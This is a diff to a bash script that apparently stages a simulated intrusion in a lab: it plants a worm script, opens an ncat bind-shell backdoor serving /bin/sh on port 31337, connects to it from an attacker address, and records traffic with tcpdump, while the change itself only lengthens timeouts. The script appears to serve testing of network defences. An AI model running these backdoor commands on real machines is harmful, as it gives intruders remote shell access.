@@ -25,7 +25,7 @@ infect_web() {
     [[ -e $worm ]] || install -m 755 "$HERE/demo.d/worm.py" "$worm" # www-data can't read every home
     INTRUDERS=()
     intrude "backdoor-$phase" ncat -n -l -k -e /bin/sh 31337
-    wait_until 10 is_listening web tcp 31337 || die "the backdoor does not open" "see $LOGS/backdoor-$phase"
+    wait_until 30 is_listening web tcp 31337 || die "the backdoor does not open" "see $LOGS/backdoor-$phase"
     start_in inet "$LOGS/bind-shell-$phase" sh -c "while :; do
         echo 'id -un; exit' | ncat -n --no-shutdown -w 3 -s $ATTACKER4 $WEB4 31337; done"
     knocker=$STARTED
@@ -38,7 +38,7 @@ infect_web() {
     kill_group "$knocker"
     kill_group "${INTRUDERS[@]}"
     # The last segments of a dying connection are not part of what comes next.
-    wait_until 10 has_no_connections web || die "connections of the web server do not end"
+    wait_until 30 has_no_connections web || die "connections of the web server do not end"
 }
 
 # intrude LOG COMMAND...: whoever breaks into a web server is www-data first.
@@ -74,7 +74,7 @@ start_witness() {
     # shellcheck disable=SC2016 # expanded by the inner shell
     start_in "$1" "$log" sh -c 'exec "$@" >"$0"' "$2" "${UNCONFINED[@]}"
     WITNESSES+=("$STARTED")
-    wait_until 10 grep -qs 'listening on' "$log" || die "tcpdump does not start" "see $log"
+    wait_until 30 grep -qs 'listening on' "$log" || die "tcpdump does not start" "see $log"
 }
 
 # stop_witnesses PHASE: a witness that missed packets is none.
